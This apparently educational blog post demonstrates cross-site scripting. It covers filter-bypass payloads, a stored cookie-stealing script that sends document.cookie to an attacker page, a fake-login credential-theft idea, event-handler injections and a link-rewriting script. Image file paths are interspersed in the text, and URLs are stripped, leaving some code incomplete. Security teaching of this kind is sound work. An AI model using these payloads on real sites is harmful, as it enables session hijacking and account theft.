Cross-site Scripting – Examples

Last week I gave a general overview of cross-site scripting (XSS) and went over the basic attack theory. If you’re anything like me,  then you are probably eager to see XSS in action. Luckily for you, I’ve had a lot of fun this past week with XSS on my home network so I have quite a bit to write about.

Note: If you haven’t already done so, please read my previous post as I will be continuing where I last left off.Searching for XSS flaws in web apps is a form of black box testing. That is, you typically won’t have any knowledge of the internal system and will need to use a variety of techniques to further understand its implementation. Sure there are some who might disagree with this and argue that it is instead a form of grey box testing. It doesn’t reallymatter. The truth is, the amount of knowledge you have about a particular web app will vary from site to site. It mostly depends on the amount of access you have to the source code. Semantic matters aside, the point is that you are going to have to perform some amount of information gathering first.

Generally speaking, using XSS to compromise a web app will involve three steps:

  1. Discover any input forms and determine how the GET/POST request variables relate to each input field.
  2. Further examine the code for each input field to detect possible vulnerabilities. This is typically accomplished by entering a harmless JavaScript statement like <script>alert('foobar')</script>.
  3. Analyze the server’s response. If the message box pops up, you’ve got decent foothold. If not, it may require you to further experiment with different encodings and filtering techniques.

These steps can either be done manually or using an automated fuzzing framework. Personally, I like to go the manual route but that’s just because most fuzzing frameworks have a tremendous learning curve. If you’re performing a large-scale penetration test, going with the web app fuzzing framework would definitely be the smart thing to do and save sometime.

Let’s consider the welcome banner example I went over briefly in my previous post. Most articles and papers about XSS like to start out with this example. Imagine a social news bookmarking site like Digg. We’ll call it When users login, the site displays a friendly welcome banner in the upper corner of the page. Perhaps the code looks like this:



<form action="welcome.php" method="get">
    <label for="uname">Username:</label>
    <input type="text" name="uname" id="uname" />

    <label for="passwd">Password:</label>
    <input type="password" name="passwd" id="passwd" />

    <input type="submit" />



We see that the web app uses the GET request and two variables: uname and passwd (by the way, never ever, ever, ever use GET when transmitting passwords). We can check to see if properly sanitizes its user input field by using the following URL:<script>alert('XSS')</script>

If no form of sanitization is applied, this will result in a popup message that displays “XSS”. Awesome! We can now effectively use as our own personal JavaScript interpreter. This means that welcome.php will probably look something like this:



echo "Welcome " . $_GET['uname'];



Look at that; nothing! No character encoding or escaping whatsoever. It’s unlikely that you’ll encounter something as moronic as this though. You are more likely to see at least some type of escaping taking place but still lacking in some areas; thus, remaining vulnerable.

For instance, a web developer might try to filter script tags using regular expressions like this:

// Ima catch all those stupid h4x0rz
if (preg_match("/<script[^>]*>/", $_GET['uname'])) {
    echo "Nice try,jerk!";
else {
    echo "Welcome " . $_GET['uname'];

However, this can easily be circumvented. Can you guess how? Well, there are several ways but remember that HTML is case insensitive? Yeah, remember how ugly everybody’s code used to look during the 90’s? All we have to do is change the case of at least one of the letters in the word “script”.<SCRIPT>alert('XSS')</SCRIPT>

And now we’re back in business. Another way to circumvent attempts to filter input is to encode different parts of your script. Using the same filter, we can get around it using the following URL:<script>alert('XSS')</script>

All I did here was encode the ASCII value for the letter ‘t’ which is 0x74. The examples could go on and on. There’d be no way to cover every possible way to get around content filtering since each web app is going to use different ways or a combination of ways to sanitize its input fields. Fortunately, RSnake has put together a very comprehensive list of common JavaScript attack vectors here.

Perhaps you’re thinking, “So what’s next? What can I do now?” The answer is: anything. That’s what makes XSS so fun! You have a nearly unlimited amount of room for creativity. When you’ve compromised a machine (and it better be your own) and you’re able to ask yourself, “What can I do with this now?”, you’re in for a fun time. You don’t always get that amount of freedom with certain exploits. I’ll go over some of the most common uses though.

XSS is most commonly used for session hijacking and cookie theft. I’d imagine because it’s astonishingly easy. Since everything up until now has been examples of reflected attacks, let me show you what a stored attack might look like.

Let’s say you’ve found an XSS vulnerability in the Tweedledummessage boards. They allow you to include embedded HTML but try to filter it using the /(<script[^>]*>)*|(javascript:)*/ regular expression. You’re a super evil bad guy and want to steal everyone’s cookies. You’d probably post a message like this:

I'm just a normal post. Don't mind me. I'm definitely not stealing your
cookie so I can hijack your session and take over your account. Nope. Not

function stealMyCookiePlz() {
    window.location = '' + escape(document.cookie);

<img src="" onmouseover="javascript :stealMyCookiePlz()" />

This embeds a small script in the post that sends the user’s cookie to every time their mouse hovers over the image. You could be even more creative and make cookie_monster.php redirect the user right back to the original Tweedledum post. Or if stealing cookies isn’t enough, you could make cookie_monster.php into a fake Tweedledum login page saying something like “Your session has expired, please log back in” so that you could steal their credentials before redirecting them back to the forum.

Notice the uppercase R in the <script> tag and the space between javascript and : in the onmouseover event. This is so that the script slips through and doesn’t match the regular expression.

Yes, that last example was a bit contrived. If you really were a jerk hijacking people’s accounts, you wouldn’t want to risk people not hovering their mouse over the image. Instead you’d just send them to right away when the page loaded. However, I mixed things up a bit to demonstrate my next point: how HTML attributes and DOM events can be used in attack vectors.

Merely filtering out <script> tags is not enough to protect your site from XSS attacks. JavaScript statements can still appear inside HTML attributes and DOM eventhandlers. Similar to the last example, you could post:

<b onmouseover="window.history.back()">Just some "harmless" text. ;)</b>

This is just a harmless but really annoying prank that would send the user back to the previous page when their mouse hovered over the text.

One of my favorites is using an erroneous <img> tag:

<img src="" onerror="alert('Howdy!')" />

This one is really clever. The <img> tag points to an image that doesn’t exist. However, adding the onerror handler forces the code to execute. Pure genius!

One last example I want to look at uses error pages. We’ve all seen them before: 404 error: File not found. Some web developers like to be a fancy pants and configure their server to display a customized error page instead. (Fun fact: Internet Explorer before version 7 refused to display custom error pages unless they were larger than 512 bytes. Add that to the list of things IE won’t do.) If not done properly, they can be used for XSS attacks. An unwise web developer might implement a custom error page like this:

echo "Nah, you trippin'homez. ";
echo "Ain't no " . urldecode($_SERVER['REQUEST_URI']) . " page here.";
echo "Betta check yoself!";

This page would be rendered when querying a non-existent page. For example:

This would send the following response:Nah, you trippin' homez. Ain't no /baz.html page here. Betta check yoself!

Oh no he didn’t! Ima pop some JS in his ass! Translation: “I am going to embed malicious JavaScript in your error page, sir.”<script>alert('Take that, jerk!')</script>

This time, you’d get the ghetto-ass error message but with the embedded script along with it. Now it’s just a matter of luring someone to the URL.

Ok, I lied. One more example. I just thought of another really cool idea:

window.onload = function() {
    var links = document.getElementsByTagName('a');

    for (var i = 0; i < links.length(); i++) {
        links[i].href = '';

This script would change every link on the page to point to This would be especially devastating in the case of a stored attack since all the links would be changed permanently.

There are also several tools available for testing XSS vulnerabilities. OWASP has the CAL9000 project. It’s a collection of web application security testing tools. Unfortunately, it’s no longer actively maintained but it might still prove useful nevertheless. There’s also XSS-Proxy which is a neat little Perl Script designed just for XSS. Another effective tool is ratproxy. Similar to CAL9000, it too is a web app security auditing tool that covers a broad range of security problems, not just XSS. Lastly, you may also want to try Burp Proxy. However, I don’t know much about it since it’s shareware.

Hopefully, this gives you a good idea of all the fun things that can be done using XSS. I highly urge you to quick setup a small LAMP server in a virtual machine and try it out for yourself. Don’t just take my word for it. It’s a blast! Even though XSS can be fun, it’s quiteeasy to see how quickly it can become a serious breach of security if in the wrong hands. For that reason, next week I will be writing about how to prevent these types of attacks.

Comments are closed.